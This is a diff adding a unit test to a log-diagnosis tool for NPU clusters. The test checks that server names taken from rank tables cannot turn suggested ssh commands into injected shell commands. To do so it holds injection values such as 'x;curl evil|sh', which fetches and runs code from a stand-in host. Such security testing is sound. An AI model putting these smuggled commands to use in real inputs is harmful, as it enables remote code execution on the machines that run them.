@@ -152,3 +152,32 @@ def test_no_causes_gives_a_plain_headline_and_json_shape():
     entry = d.to_json()["causes"][0]
     for key in ("code", "cause", "server", "ranks", "ips", "ports", "phase", "lines", "next_check"):
         assert key in entry
+
+
+def test_suggested_commands_are_quoted_and_none_for_a_name_that_is_no_ssh_target():
+    """A server name from a received rank table is data: ``x;curl evil|sh`` must not become a
+    command that runs it when pasted."""
+    evil = "x;curl evil|sh"
+    places = [p.model_copy(update={"server": evil}) if p.server == host(0) else p for p in _places()]
+    sources = [LogSource(name="a/plog-1.log", server=evil, text=_timeout_log(3, 11)),
+               LogSource(name="b/plog-2.log", server=host(1), text=_timeout_log(11, 3))]
+    d = diagnose(classify_all(sources), places=places, ping=None)
+    commands = [lk.command for lk in d.links if lk.command]
+    assert all("curl" not in c for c in commands), commands
+    assert [lk.command for lk in d.links if lk.kind == "ping_untested" and lk.src_host == evil] == [None]
+    bad = "h;touch p"
+    inv = make_inventory()
+    inv.servers[1].host = bad
+    inv.servers[1].devices[3].busy_pids = [777]
+    text = ("EI0014: the IP address(10.20.1.99) in the ranktable is inconsistent with the IP "
+            f"address({device_ip(1, 3)}) of the network adapter")
+    sources = [LogSource(name="x", server=bad, rank=11, text=text),
+               LogSource(name="y", server=bad, rank=11,
+                         text=f"listen on ip[{device_ip(1, 3)}] and specific port[16666] fail")]
+    places = [p.model_copy(update={"server": bad}) if p.server == host(1) else p for p in _places()]
+    d = diagnose(classify_all(sources), places=places, inventory=inv)
+    shown = {lk.kind: lk.command for lk in d.links if lk.kind in ("discovery_ip", "npu_processes")}
+    assert shown == {"discovery_ip": None, "npu_processes": None}
+    d = diagnose(classify_all(_sources_pair()), places=_places(), ping=None)
+    (untested,) = [lk for lk in d.links if lk.kind == "ping_untested"]
+    assert untested.command is not None and untested.command.startswith(f"ssh {host(0)} hccn_tool -i 3")
